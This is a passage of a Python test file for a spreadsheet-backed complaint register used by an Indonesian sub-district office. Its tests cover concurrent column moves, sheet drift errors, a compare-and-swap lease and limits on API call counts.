    def test_columns_moved_under_a_new_row_take_it_along(
        self, served: ServedFolio, drag: tuple[str, int]
    ) -> None:
        """A name in the column of the contact would send the answer to nobody, or to another."""
        whole = new(1, nama="Wayan", kontak="w@warga.example", kanal="Email", sisa_menit=95)
        last = served.register.read().last_used
        served.meanwhile("insert", lambda: served.drag(*drag))
        served.register.insert([whole], [], [], last)
        assert served.register.read().rows[0].cells == whole.cells
        assert served.stands()[0] == whole.cells

    @pytest.mark.parametrize("drag", DRAGS)
    def test_columns_moved_under_a_change_take_it_along(
        self, served: ServedFolio, drag: tuple[str, int]
    ) -> None:
        """What people wrote where the worker's cells fell comes back; what was emptied is empty."""
        people = {"draf": "Yth.", "kontak": "0812", "status_kasi": "Diajukan", "uraian": "Rusak"}
        fill(served, 1)
        served.put(2, **people)
        before = served.register.read().rows[0].cells
        told = "Mohon ditunggu."
        change = wanted(1, tahap="x", pesan_sistem=told, status_kasi="", nomor=number(1))
        served.meanwhile("change", lambda: served.drag(*drag))
        written(served, change)
        kept = {name: c for name, c in {**before, **change.cells}.items() if c != ""}
        assert served.register.read().rows[0].cells == kept
        assert served.stands()[0] == kept

    def test_what_people_write_into_moved_columns_stays(self, served: ServedFolio) -> None:
        """A minute passes before the worker looks again, and the Sekcam does not wait for it."""
        last = served.register.read().last_used
        served.meanwhile("insert", lambda: served.drag("pesan_sistem", 3))
        served.register.insert([new(1, pesan_sistem="Menunggu disposisi.")], [], [], last)
        served.put(2, disposisi="Kasi PMD", nama="Made")
        found = served.register.read().rows[0].cells
        assert (found["disposisi"], found["nama"]) == ("Kasi PMD", "Made")

    def test_columns_that_move_again_while_a_row_is_mended_are_found(
        self, served: ServedFolio
    ) -> None:
        """The mending is a write like another."""
        whole = new(1, nama="Wayan", kontak="w@warga.example")
        last = served.register.read().last_used
        served.meanwhile("insert", lambda: served.drag("draf", 2))
        served.register.insert([whole], [], [], last)
        served.meanwhile("change", lambda: served.drag("kontak", 9))
        assert served.register.read().rows[0].cells == whole.cells
        assert served.stands()[0] == whole.cells

    def test_columns_dragged_before_and_after_a_write_are_told_apart(
        self, served: ServedFolio
    ) -> None:
        """Nobody saw the order in which the columns stood when the row arrived."""
        whole = new(1, nama="Wayan", kontak="w@warga.example", kanal="Email", sisa_menit=95)
        last = served.register.read().last_used
        served.meanwhile("insert", lambda: served.drag("draf", 1))
        served.register.insert([whole], [], [], last)
        served.drag("kontak", 20)
        assert served.register.read().rows[0].cells == whole.cells
        assert served.stands()[0] == whole.cells

    def test_columns_moved_after_a_write_are_not_mended(self, served: ServedFolio) -> None:
        """They took the cells along, and those were right."""
        whole = new(1, nama="Wayan", kontak="Wayan", tahap="Wayan")
        served.register.insert([whole], [], [], served.register.read().last_used)
        served.drag("kontak", 2)
        calls = len(served.calls())
        assert served.register.read().rows[0].cells == whole.cells
        assert not [c for c in served.calls()[calls:] if c.path.endswith("batchUpdateByDataFilter")]

    def test_a_worker_that_died_after_writing_into_moved_columns_finds_out(
        self, served: ServedFolio
    ) -> None:
        """The next process has nothing but what was remembered before the write."""
        whole = new(1, nama="Wayan", kontak="w@warga.example")
        last = served.register.read().last_used

        def dragged() -> None:
            served.drag("nomor", 9)
            served.cut("insert")

        served.meanwhile("insert", dragged)
        with pytest.raises((TransientError, AmbiguousError)):
            served.register.insert([whole], [], [], last)
        served.restart()
        assert served.register.read().rows[0].cells == whole.cells

    def test_renamed_tabs_are_followed(self, served: ServedFolio) -> None:
        """The office calls its tabs as it likes."""
        fill(served, 1)
        for tab, title in (("register", "Buku 'Besar'"), ("peran", "Pejabat")):
            change = {"sheetId": served.gid(tab), "title": title}
            served.do({"updateSheetProperties": {"properties": change, "fields": "title"}})
        snapshot = served.register.read()
        assert [row.number for row in snapshot.rows] == [number(1)]
        assert snapshot.tabs["peran"][1][0] == "Petugas"

    def test_hidden_and_filtered_rows_are_read_and_written(self, served: ServedFolio) -> None:
        """A filter that somebody forgot must not stop a complaint."""
        fill(served, 1, 2)
        hidden = {"range": served.span("ROWS", 1), "properties": {"hiddenByUser": True}}
        area = {"range": {"sheetId": served.gid("register")}}
        served.do(
            {"updateDimensionProperties": {**hidden, "fields": "hiddenByUser"}},
            {"setBasicFilter": {"filter": area}},
        )
        assert written(served, wanted(1, tahap="x")) == (number(1),)
        fill(served, 3)
        assert numbers(served) == [number(1), number(2), number(3)]
        assert cell(served, 1, "tahap") == "x"

    def test_a_stray_cell_deflects_no_line(self, served: ServedFolio) -> None:
        """Somebody wrote below the history, and beside it."""
        served.register.insert([], [], [line(1)], 1)
        served.write("Riwayat!D50", "x")
        served.register.insert([], [], [line(2)], 1)
        assert told(served)[:2] == ["Peristiwa 2.", "Peristiwa 1."]


class TestDrift:
    """A sheet that is not what it must be: its owner looks, nothing is written."""

    @pytest.mark.parametrize("tab", ["register", "peran", "riwayat"])
    def test_a_missing_tab_is_named(self, served: ServedFolio, tab: str) -> None:
        """Also one that is only written: its lines would be lost."""
        served.do({"deleteSheet": {"sheetId": served.gid(tab)}})
        served.memory.clear()
        served.restart()
        with pytest.raises(RegisterDriftError, match=f"no tab {served.title(tab)}; .*init"):
            served.register.read()

    @pytest.mark.parametrize("tab", ["register", "peran"])
    def test_a_tab_that_goes_missing_is_named(self, served: ServedFolio, tab: str) -> None:
        """The tab was there in the last pass."""
        served.do({"deleteSheet": {"sheetId": served.gid(tab)}})
        with pytest.raises(RegisterDriftError, match=f"no tab {served.title(tab)}"):
            served.register.read()

    def test_a_missing_column_is_named(self, served: ServedFolio) -> None:
        """Writing goes by columns: without one of them nothing is written."""
        served.do({"deleteDimension": {"range": served.span("COLUMNS", served.places()["draf"])}})
        with pytest.raises(RegisterDriftError, match=r"no column Draf Tanggapan; .*init"):
            served.register.read()

    def test_a_deleted_header_is_refused(self, served: ServedFolio) -> None:
        """A row of content in its place must not be taken for the header."""
        fill(served, 1)
        served.delete(1)
        with pytest.raises(RegisterDriftError, match=r"row 1 does not say 'No\. Register'"):
            served.register.read()

    def test_an_emptied_header_is_refused(self, served: ServedFolio) -> None:
        """Whoever cleared the header gets it back before anything is written."""
        area = {"sheetId": served.gid("register"), "startRowIndex": 0, "endRowIndex": 1}
        served.do({"updateCells": {"range": area, "fields": "userEnteredValue"}})
        with pytest.raises(RegisterDriftError, match="row 1 does not say"):
            served.register.read()


class TestLease:
    """One line on the spreadsheet, written by compare-and-swap: two computers ask for it."""

    def test_a_new_register_has_none(self, sheet: Folio) -> None:
        """Nobody worked with it yet."""
        assert sheet.register.lease() == ""

    def test_of_two_who_find_none_the_first_gets_it(self, sheet: Folio) -> None:
        """Both saw the same, one is refused."""
        assert [sheet.register.swap_lease("", who) for who in ("a 1", "b 1")] == [True, False]
        assert sheet.register.lease() == "a 1"

    def test_it_is_written_where_it_reads_as_before(self, sheet: Folio) -> None:
        """So one renews, and one takes over."""
        sheet.register.swap_lease("", "a 1")
        assert sheet.register.swap_lease("a 1", "a 2")
        assert sheet.register.swap_lease("a 2", "b 3")
        assert sheet.register.lease() == "b 3"

    def test_it_is_left_alone_where_it_reads_otherwise(self, sheet: Folio) -> None:
        """Another renewed it, or took it, since it was read."""
        sheet.register.swap_lease("", "a 2")
        assert not sheet.register.swap_lease("a 1", "b 3")
        assert sheet.register.lease() == "a 2"

    def test_there_is_nothing_to_renew_where_there_is_none(self, sheet: Folio) -> None:
        """A copy of the spreadsheet, or a new one."""
        assert not sheet.register.swap_lease("a 1", "a 2")
        assert sheet.register.lease() == ""

    def test_who_is_overtaken_in_the_last_moment_does_not_get_it(self, sheet: Folio) -> None:
        """Between the look and the write another wrote."""
        sheet.register.swap_lease("", "a 1")

        def overtaken() -> None:
            assert sheet.register.swap_lease("a 1", "c 2")

        sheet.meanwhile("swap_lease", overtaken)
        assert not sheet.register.swap_lease("a 1", "b 2")
        assert sheet.register.lease() == "c 2"

    def test_people_at_work_do_not_touch_it(self, sheet: Folio) -> None:
        """They sort, insert and delete rows."""
        fill(sheet, 1, 2)
        sheet.register.swap_lease("", "a 1")
        sheet.sort("nomor", reverse=True)
        sheet.insert_blank(2)
        sheet.delete(3)
        fill(sheet, 3)
        assert sheet.register.lease() == "a 1"

    @pytest.mark.parametrize("method", ["lease", "swap_lease"])
    def test_while_the_service_is_away_nothing_is_done(self, sheet: Folio, method: str) -> None:
        """And that is told as such."""
        sheet.away(method)
        with pytest.raises(TransientError):
            sheet.register.lease() if method == "lease" else sheet.register.swap_lease("", "a 1")
        assert sheet.register.lease() == ""

    def test_a_write_whose_answer_was_lost_is_in_doubt(self, sheet: Folio) -> None:
        """It stands, and the next look finds it."""
        sheet.cut("swap_lease")
        with pytest.raises(AmbiguousError):
            sheet.register.swap_lease("", "a 1")
        assert sheet.register.lease() == "a 1"

    def test_a_look_and_a_write_are_one_call_each(self, served: ServedFolio) -> None:
        """A renewal must not cost the pass its place in the quota."""
        before = len(served.calls())
        served.register.lease()
        served.register.swap_lease("", "a 1")
        served.register.swap_lease("a 1", "a 2")
        kinds = [call.kind for call in served.calls()[before:]]
        assert kinds == ["read", "write", "write"]


class TestCost:
    """Calls count against a quota of sixty a minute."""

    def test_each_step_of_a_pass_is_one_call(self, served: ServedFolio) -> None:
        """Two reads and two writes, however many cases changed."""
        served.register.insert([new(n) for n in range(1, 41)], [], [line(1)], 1)
        served.put(42, kanal="Telepon")
        before = len(served.calls())
        last = served.register.read().last_used
        fresh = [new(n) for n in range(42, 60)]
        served.register.insert(fresh, [Anchoring(anchor(41), 42)], [line(2)], last)
        changes = [nameless(41), *(wanted(n, tahap="x") for n in range(1, 60) if n != 41)]
        assert len(written(served, *changes)) == 59
        kinds = [(call.kind, call.status) for call in served.calls()[before:]]
        assert kinds == [("read", 200), ("write", 200), ("read", 200), ("write", 200)]

    def test_ten_thousand_rows_cost_no_call_more(self, prepared: Prepared) -> None:
        """The register of many years is read and written like that of the first day."""
        served = folio(SERVED[0], prepared)
        assert isinstance(served, ServedFolio)
        served.register.insert([new(n) for n in range(1, 10_001)], [], [line(1)], 1)
        served.register.insert([], [], [mail(n) for n in range(1, 10_001)], 1)
        before = len(served.calls())
        assert served.register.read().last_used == 10_001
        answer = PenAnswer("karantina", 9_000, "Dibiarkan")
        served.register.insert([new(10_001)], [], [line(2)], 10_001, [answer])
        changes = [wanted(n, tahap="x") for n in range(1, 10_001, 100)]
        assert len(written(served, *changes)) == 100
        kinds = [(call.kind, call.status) for call in served.calls()[before:]]
        assert kinds == [("read", 200), ("write", 200), ("read", 200), ("write", 200)]

    def test_nothing_to_add_is_no_call(self, served: ServedFolio) -> None:
        """Also when the only lines are there already."""
        served.register.insert([], [], [line(1)], 1)
        before = len(served.calls())
        served.register.insert([], [], [line(1)], 1)
        served.register.change([], {})
        assert len(served.calls()) == before


def test_the_marks_tell_how_far_each_tab_is_written(sheet: Folio) -> None:
    """A new ledger that counts from the start again would write lines that never appear."""
    before = dict(sheet.register.marks())
    sheet.register.insert([], [], [line(7), line(3, "karantina")], 1)

    assert ({}, {"riwayat": 7, "karantina": 3}) == (before, dict(sheet.register.marks()))
